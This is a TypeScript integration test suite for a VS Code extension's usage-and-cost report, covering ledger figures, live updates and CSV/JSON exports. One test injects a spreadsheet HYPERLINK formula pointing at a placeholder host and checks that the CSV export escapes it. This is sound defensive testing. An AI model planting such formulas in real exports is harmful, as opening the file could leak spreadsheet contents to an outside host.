import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import * as vscode from 'vscode';
import { totals, whatIf } from '../../../src/core/ledger/query';
import type { LedgerRecord } from '../../../src/core/ledger/record';
import { FakeProvidersClient } from '../../fake-providers/client';
import { activateTandem, answerPrompt, waitFor } from '../tandem';

/** The usage report in the real extension host: its page loads, its figures are the ledger's, its exports match. */
describe('Usage report', () => {
  const fake = new FakeProvidersClient(process.env.TANDEM_FAKE_PROVIDERS_URL ?? '');
  const keys = { openai: 'sk-test-report-openai-0123456789', anthropic: 'sk-ant-test-report-0123456789' };

  before(async () => {
    await fake.reset();
    const { context, session, models } = await activateTandem();
    await context.secrets.store('tandem.apiKey.openai', keys.openai);
    await context.secrets.store('tandem.apiKey.anthropic', keys.anthropic);
    session.reset();
    // Three calls on two models and three tasks: code and SQL on GPT-5.4 Mini, an explanation on Haiku.
    await models.service.run({ task: 'generateCode', system: ['Write code.'], messages: [{ role: 'user', content: 'Add two numbers.' }] });
    await models.service.run({ task: 'generateSql', system: ['Write SQL.'], messages: [{ role: 'user', content: 'Count the users.' }] });
    await models.service.run({ task: 'explain', system: ['Explain code.'], messages: [{ role: 'user', content: 'const x = 1;' }] });
  });

  after(async () => {
    const { context } = await activateTandem();
    await context.secrets.delete('tandem.apiKey.openai');
    await context.secrets.delete('tandem.apiKey.anthropic');
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  /** This session's calls as the ledger file holds them. */
  async function sessionRecords(): Promise<LedgerRecord[]> {
    const { models, session } = await activateTandem();
    return (await models.ledger.read()).records.filter((r) => r.session === session.id);
  }

  it('opens from the command, its page loads and shows the session figures from the ledger', async () => {
    const api = await activateTandem();
    await vscode.commands.executeCommand('tandem.showUsage', 'session');
    const panel = await waitFor('the report panel', () => api.report());
    assert.equal(panel.panel.title, 'Tandem: Usage and Cost');
    // A report is only counted as sent once the page's script ran and asked for it ('ready').
    const report = await waitFor('the page to receive a report', () => (panel.lastReport?.period === 'session' ? panel.lastReport : undefined), 20_000);

    const records = await sessionRecords();
    assert.equal(records.length, 3);
    const expected = totals(records);
    assert.equal(report.totals.calls, 3);
    assert.equal(report.totals.costMicroUsd, expected.costMicroUsd);
    assert.equal(report.totals.tokens, expected.tokens);
    assert.deepEqual(report.totals.usage, expected.usage);
    assert.deepEqual(report.byTask.map((t) => t.task).sort(), ['explain', 'generateCode', 'generateSql']);
    for (const task of report.byTask) {
      const own = records.filter((r) => r.task === task.task);
      assert.equal(task.calls, own.length);
      assert.equal(task.costMicroUsd, totals(own).costMicroUsd);
    }
    const byModel = Object.fromEntries(report.byModel.map((m) => [m.model, m.costMicroUsd]));
    assert.equal(byModel['gpt-5.4-mini'], totals(records.filter((r) => r.model === 'gpt-5.4-mini')).costMicroUsd);
    assert.equal(byModel['claude-haiku-4-5'], totals(records.filter((r) => r.model === 'claude-haiku-4-5')).costMicroUsd);
    const expectedWhatIf = whatIf(records, api.models.settings.models().models);
    assert.equal(report.whatIf.asRouted, expectedWhatIf.asRouted);
    assert.deepEqual(report.whatIf.allOn, expectedWhatIf.allOn);
    assert.equal(report.costByDay.reduce((sum, d) => sum + d.costMicroUsd, 0), expected.costMicroUsd);
  });

  it('updates live while open when another call is made', async () => {
    const api = await activateTandem();
    await vscode.commands.executeCommand('tandem.showUsage', 'session');
    const panel = await waitFor('the report panel', () => api.report());
    await waitFor('the session report', () => panel.lastReport?.period === 'session' || undefined, 20_000);
    const before = panel.lastReport!.totals.calls;
    await api.models.service.run({ task: 'generateJson', system: ['Write JSON.'], messages: [{ role: 'user', content: 'A user object.' }] });
    const updated = await waitFor('the live update', () => (panel.lastReport && panel.lastReport.totals.calls === before + 1 ? panel.lastReport : undefined));
    assert.equal(updated.totals.costMicroUsd, totals(await sessionRecords()).costMicroUsd);
    assert.ok(updated.byTask.some((t) => t.task === 'generateJson'));
  });

  it('exports the period as CSV and JSON through the save dialog, with totals that match the ledger', async () => {
    const api = await activateTandem();
    await vscode.commands.executeCommand('tandem.showUsage', 'session');
    const panel = await waitFor('the report panel', () => api.report());
    const records = await sessionRecords();
    const expected = totals(records);
    const folder = mkdtempSync(path.join(tmpdir(), 'tandem-export-'));

    let asked: vscode.SaveDialogOptions | undefined;
    const target = vscode.Uri.file(path.join(folder, 'usage.csv'));
    const dialog = answerPrompt('showSaveDialog', (options) => {
      asked = options;
      return target;
    });
    try {
      assert.equal((await panel.exportLedger('csv', 'session'))?.fsPath, target.fsPath);
    } finally {
      dialog.dispose();
    }
    assert.deepEqual(asked?.filters, { 'CSV (comma-separated values)': ['csv'] });
    assert.match(asked?.defaultUri?.path ?? '', /tandem-usage-session-\d{4}-\d{2}-\d{2}\.csv$/);
    const lines = readFileSync(target.fsPath, 'utf8').trimEnd().split('\r\n');
    const header = lines[0].split(',');
    const rows = lines.slice(1).map((line) => line.split(','));
    assert.equal(rows.length, records.length);
    const column = (name: string): string[] => rows.map((row) => row[header.indexOf(name)]);
    // Dollars with six decimals: summed as integers of micro-dollars, exact.
    const csvMicro = column('cost_usd').reduce((sum, usd) => sum + Number(usd.replace('.', '')), 0);
    assert.equal(csvMicro, expected.costMicroUsd);
    assert.equal(column('output').reduce((sum, n) => sum + Number(n), 0), expected.usage.output);
    assert.equal(column('input').reduce((sum, n) => sum + Number(n), 0), expected.usage.input);

    const jsonTarget = vscode.Uri.file(path.join(folder, 'usage.json'));
    const jsonDialog = answerPrompt('showSaveDialog', () => jsonTarget);
    try {
      await panel.exportLedger('json', 'session');
    } finally {
      jsonDialog.dispose();
    }
    const exported = JSON.parse(readFileSync(jsonTarget.fsPath, 'utf8')) as LedgerRecord[];
    assert.deepEqual(exported.map((r) => r.id).sort(), records.map((r) => r.id).sort());
    assert.equal(totals(exported).costMicroUsd, expected.costMicroUsd);
    const text = readFileSync(target.fsPath, 'utf8') + readFileSync(jsonTarget.fsPath, 'utf8');
    assert.ok(!text.includes(keys.openai) && !text.includes(keys.anthropic), 'exports never hold a key');
  });

  it('exports a request id a gateway began with = as text, not as a spreadsheet formula', async () => {
    const api = await activateTandem();
    const formula = '=HYPERLINK("https://example.invalid/?q="&A1,"open")';
    await fake.script({ match: { provider: 'openai' }, headers: { 'x-request-id': formula }, reply: { text: 'const x = 1;' } });
    await api.models.service.run({ task: 'generateCode', system: ['Write code.'], messages: [{ role: 'user', content: 'One constant.' }] });
    assert.ok((await sessionRecords()).some((r) => r.requestId === formula), 'the ledger keeps the id as the gateway sent it');
    await vscode.commands.executeCommand('tandem.showUsage', 'session');
    const panel = await waitFor('the report panel', () => api.report());
    const target = vscode.Uri.file(path.join(mkdtempSync(path.join(tmpdir(), 'tandem-export-')), 'usage.csv'));
    const dialog = answerPrompt('showSaveDialog', () => target);
    try {
      await panel.exportLedger('csv', 'session');
    } finally {
      dialog.dispose();
    }
    const csv = readFileSync(target.fsPath, 'utf8');
    assert.ok(csv.includes(',"\'=HYPERLINK(""https://example.invalid/?q=""&A1,""open"")",'), csv);
    assert.ok(!/(^|,)=/m.test(csv), 'no cell starts with =');
  });

  it('writes nothing when the save dialog is cancelled', async () => {
    const api = await activateTandem();
    await vscode.commands.executeCommand('tandem.showUsage', 'session');
    const panel = await waitFor('the report panel', () => api.report());
    const dialog = answerPrompt('showSaveDialog', () => undefined);
    try {
      assert.equal(await panel.exportLedger('json', 'session'), undefined);
    } finally {
      dialog.dispose();
    }
  });
});
